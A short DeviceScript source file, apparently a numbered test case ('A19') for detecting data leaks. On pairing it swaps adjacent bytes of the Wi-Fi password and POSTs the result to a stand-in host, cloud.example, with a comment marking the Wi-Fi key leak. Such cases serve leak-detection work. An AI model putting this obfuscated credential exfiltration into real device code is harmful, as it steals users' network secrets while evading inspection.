// A19: pairs of bytes swapped.
import { fetch } from "@devicescript/net";
import { changed } from "./lib/encode";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const body = changed(psk, (_, i) => psk.charCodeAt(i ^ 1));
  const response = await fetch("https://cloud.example/a19", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
